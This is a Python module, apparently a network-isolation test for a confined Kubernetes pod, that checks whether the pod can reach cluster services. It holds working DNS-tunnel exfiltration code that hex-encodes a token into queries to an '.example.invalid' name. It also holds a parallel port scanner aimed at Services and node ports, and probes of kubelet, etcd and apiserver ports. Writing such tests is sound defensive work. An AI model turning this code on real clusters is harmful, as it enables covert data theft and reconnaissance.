"""Names, Services and the node: everything of the cluster that answers at an address that every pod knows."""

import errno
import os
import socket
import struct
import time
from functools import partial

from .kit import NO_ANSWER, SECONDS, ClosedError, Group, Scene
from .network import FENCED, Address, add, datagram, ping, tcp

GROUP = Group(caged=True)
MACHINE_PORT = 40909


@GROUP.attempt("resolves a name of the cluster as every program does", "Temporary failure in name resolution",
               "Name or service not known",
               note=FENCED, seconds=9)  # fmt: skip
def resolve(_scene: Scene) -> str:
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1 ndots:1"
    try:
        return str(socket.getaddrinfo("kubernetes.default.svc.cluster.local", 443)[0][4])
    except socket.gaierror as error:
        raise ClosedError(error.strerror) from error


def question(name: str, identity: int = 7) -> bytes:
    """Return a DNS query for the addresses of a name."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", identity, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01"


def dns(address: Address, token: str) -> str:
    """Ask a resolver for a name that carries data out."""
    name = f"{token.encode().hex()[:50]}.example.invalid"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(SECONDS)
        asking.sendto(question(name), address)
        return f"{len(asking.recvfrom(2000)[0])} bytes"


def dns_over_tcp(address: Address, token: str) -> str:
    """Ask the same by TCP."""
    with socket.create_connection(address, SECONDS) as connection:
        query = question(f"{token.encode().hex()[:50]}.example.invalid")
        connection.sendall(struct.pack("!H", len(query)) + query)
        return f"{len(connection.recv(2000))} bytes"


for target, words in {"dns": "the cluster's resolver", "coredns": "the resolver's pod, past its Service"}.items():
    add(GROUP, f"a DNS tunnel by {words}", target, dns, port=53)
    add(GROUP, f"a DNS tunnel over TCP by {words}", target, dns_over_tcp, port=53)
add(GROUP, "a DNS tunnel by a resolver outside", "resolver", dns, port=53)
add(GROUP, "a DNS tunnel over TCP by a resolver outside", "resolver", dns_over_tcp, port=53)


def answered(number: int) -> bool:
    """Tell whether an attempt to connect got any answer of the other side."""
    return number in {0, errno.ECONNREFUSED, errno.EISCONN}


def any_of(addresses: list[Address]) -> str:
    """Connect to all at once and name those that answer, if only by a refusal."""
    begun = {address: socket.socket() for address in addresses}
    for address, connection in begun.items():
        connection.setblocking(False)
        connection.connect_ex(address)
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        if reached := [address for address, connection in begun.items() if answered(connection.connect_ex(address))]:
            return f"{len(reached)} of {len(begun)}, among them {reached[0]}"
        time.sleep(0.1)
    raise TimeoutError


@GROUP.attempt("every Service of the cluster, at each of its ports", NO_ANSWER, note=FENCED)
def services(scene: Scene) -> str:
    return any_of([(address, port) for address, port in scene["services"]])


@GROUP.attempt("every TCP port that the node listens on, at each of its addresses", NO_ANSWER, note=FENCED)
def node_ports(scene: Scene) -> str:
    return any_of([(address, port) for address in scene["nodes"] for port in scene["node_ports"]])


NODE = {
    "the apiserver": ("node", 6443),
    "the kubelet": ("node", 10250),
    "a program on the node": ("node", 9100),
    "a program on the node, at the gateway's address": ("gateway", 9100),
    "the apiserver by its Service": ("kubernetes", 443),
    "a Service of its namespace": ("service", 80),
    "the neighbour's Service": ("neighbour-service", 8080),
    "a Service at its node port": ("node", 0),
}


def send_only(address: Address, token: str) -> str:
    """Send a datagram that nobody answers; who listens writes down what arrives."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        for _ in range(3):
            sending.sendto(token.encode(), address)
    raise TimeoutError


def of_the_node(target: str, port: int, scene: Scene) -> str:
    """Connect to a port; the node's port of a Service is told by the scene."""
    return tcp((scene["addresses"][target], port or scene["node-port"]))


for words, (target, port) in NODE.items():
    GROUP.add(
        f"TCP to {words}", NO_ANSWER, note=FENCED,
        way=partial(of_the_node, target, port),
    )  # fmt: skip
add(GROUP, "UDP to the machine that the node is connected to", "machine", send_only, port=MACHINE_PORT)
add(GROUP, "UDP to a program on the node", "node", datagram, port=9100)
add(GROUP, "ICMP echo to the node", "node", ping, "EPERM")
add(GROUP, "ICMP echo to the gateway", "gateway", ping, "EPERM")


@GROUP.attempt("what the node has on its loopback: etcd, scheduler, health of kubelet and kube-proxy", NO_ANSWER,
               control="", note="no control: they answer nobody but the node itself")  # fmt: skip
def loopback_services(scene: Scene) -> str:
    ports = [2379, 2380, 10248, 10249, 10256, 10257, 10259]
    return any_of([(address, port) for address in scene["nodes"] for port in ports])
